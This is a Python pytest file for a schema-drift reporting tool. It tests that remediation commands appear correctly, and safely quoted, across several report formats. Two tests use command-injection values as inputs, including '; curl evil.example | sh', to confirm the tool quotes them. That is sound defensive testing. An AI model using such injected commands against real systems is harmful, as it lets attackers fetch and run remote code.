"""Each finding that a migration closes has the command for it, in every format that lists it."""

from __future__ import annotations

import html
import json

import pytest

from drift.formats import Options, resolve
from drift.kinds import KINDS, RULES
from drift.kinds.migration import RULES as MIGRATION_RULES
from drift.model import Severity
from drift.report.fix import Fix, planner
from drift.report.report import Check, Report
from drift.reporters.github.issue_text import body
from drift.reporters.memory import state
from tests.report.examples import check, finding, report

OF_SQL = [rule for kind in KINDS if kind.is_optional for rule in kind.rules]
PLAN = "drift plan production --finding 0123456789abcdef"


def test_the_first_sentence_of_the_remedy_and_the_command() -> None:
    summary = "Run the migration that adds the column, or write it."
    assert planner(check()).fix(finding()) == Fix(summary=summary, command=PLAN)


@pytest.mark.parametrize(
    ("cause", "words"),
    [
        ("changed-by-hand", "Take the change back with a plan, or keep it"),
        ("missing-migration", "Write the migration that follows the models"),
        ("stamped-not-run", "Run the statements of the migration"),
        ("not-in-migrations", "Write the migration that creates it"),
    ],
)
def test_a_known_cause_has_its_own_remedy(cause: str, words: str) -> None:
    known = planner(check()).fix(finding(cause=cause))
    assert known is not None
    assert known.summary.startswith(words)
    for name, shown in texts(check(finding(cause=cause))).items():
        assert words in shown, name
        assert "Run the migration that adds the column" not in shown
    assert f"\n  {cause}: {words}" in texts(check(finding(cause=cause)))["text"]


def test_an_unknown_cause_has_the_remedy_of_the_rule() -> None:
    shown = texts(check(finding(cause="unknown")))["text"]
    assert "\n  missing-column: Run the migration that adds the column" in shown


@pytest.mark.parametrize("rule", RULES)
def test_every_rule_has_a_plan_unless_no_migration_closes_it(rule: str) -> None:
    known = planner(check()).fix(finding(rule=rule))
    if rule == "pending-migration":
        assert known is not None
        assert known.command == "alembic upgrade head"
    elif (
        RULES[rule].advice
        or rule.startswith(("imposs", "unread", "frozen"))
        or rule in {each.id for each in (*MIGRATION_RULES, *OF_SQL)}
    ):
        assert known is None
    else:
        assert known is not None
        assert known.command == PLAN
        assert known.summary.endswith(".")
        assert ". " not in known.summary


@pytest.mark.parametrize(
    ("of", "expected"),
    [
        (check(target="my shop; rm"), "drift plan 'my shop; rm' --finding 0123456789abcdef"),
        (check(actual_source="snapshot"), ""),
        (check(), PLAN),
    ],
)
def test_the_target_is_one_argument_and_a_diff_has_none(of: Check, expected: str) -> None:
    known = planner(of).fix(finding())
    assert (known.command if known else "") == expected


def test_a_pending_migration_closes_what_it_causes() -> None:
    known = planner(check()).fix(finding(cause="pending-migration"))
    assert known is not None
    assert known.command == "alembic upgrade head"


@pytest.mark.parametrize("changes", [{"rule": "of-a-later-drift"}, {"fingerprint": ""}])
def test_an_unknown_rule_has_none_and_a_finding_may_lack_a_fingerprint(
    changes: dict[str, str],
) -> None:
    known = planner(check()).fix(finding(**changes))
    assert (known and known.command) == (None if "rule" in changes else "drift plan production")


def texts(*checks: Check) -> dict[str, str]:
    of = Report(checks=checks)
    shown = {name: resolve(name)(of, Options(width=200)) for name in ("text", "markdown", "html")}
    return shown | {"github": body(checks[0], state(checks[0]), Options(), "")}


def test_every_format_names_the_command() -> None:
    shown = texts(check(finding()))
    assert "\ndrift plan production writes the migration\n" in shown["text"]
    for name in ("markdown", "github"):
        assert f"| `{PLAN}` |" in shown[name]
        assert "`drift plan production` writes the migration." in shown[name]
    assert f"<code>{PLAN}</code>" in shown["html"]


@pytest.mark.parametrize(
    "of",
    [
        check(finding(rule="multiple-heads", severity=Severity.WARNING)),
        check(finding(rule="impossible-declaration")),
        check(finding(rule="function-mismatch")),
        check(finding(), configured=False),
        check(finding(), actual_source="database", actual_name="b"),
        check(),
    ],
)
def test_no_format_names_it_if_there_is_no_plan(of: Check) -> None:
    for shown in texts(of).values():
        assert "drift plan" not in shown
        assert "--finding" not in shown


def test_a_migration_that_only_has_to_run_needs_no_plan() -> None:
    shown = texts(check(finding(cause="pending-migration")))
    assert "| `alembic upgrade head` |" in shown["markdown"]
    assert "<code>alembic upgrade head</code>" in shown["html"]
    assert not [name for name, text in shown.items() if "drift plan" in text]


def test_of_several_targets_the_text_names_none() -> None:
    shown = texts(check(finding()), check(finding("z"), target="staging"))["text"]
    assert "\ndrift plan TARGET writes the migration\n" in shown


def test_the_command_has_the_options_of_the_check() -> None:
    of = check(finding(), plan_options=("--models", "a b:Base"), configured=False)
    shown = texts(of)
    assert "\ndrift plan --models 'a b:Base' writes the migration\n" in shown["text"]
    assert "`drift plan --models 'a b:Base' --finding 0123456789abcdef`" in shown["markdown"]
    shown = texts(check(finding(), plan_options=("--bind", "b")))
    assert "\ndrift plan production --bind b writes the migration\n" in shown["text"]


def test_the_command_of_tenants_names_one_that_differs() -> None:
    of = check(finding(schemas=("tenant_3", "tenant_4")), compared={"schemas": 5})
    shown = texts(of)
    assert "\ndrift plan production --schema tenant_3 writes the migration\n" in shown["text"]
    assert "| `drift plan production --schema tenant_3` |" in shown["markdown"]
    shown = texts(check(finding(), compared={"schemas": 5}))
    assert "\ndrift plan production --schema SCHEMA writes the migration\n" in shown["text"]


def test_a_document_has_the_fix_of_differences_only() -> None:
    of = report(finding(), actual_source="snapshot")
    [written] = json.loads(resolve("json")(of, Options()))["checks"]
    assert written["findings"][0]["fix"] is None


def test_an_option_of_a_foreign_report_is_quoted() -> None:
    shown = texts(check(finding(), plan_options=("; curl evil.example | sh #`x`",)))
    command = "drift plan production '; curl evil.example | sh #`x`'"
    assert f"\n{command} writes the migration\n" in shown["text"]
    assert f"\n``{command}`` writes the migration.\n" in shown["markdown"]
    assert f"{command} --finding" in html.unescape(shown["html"])
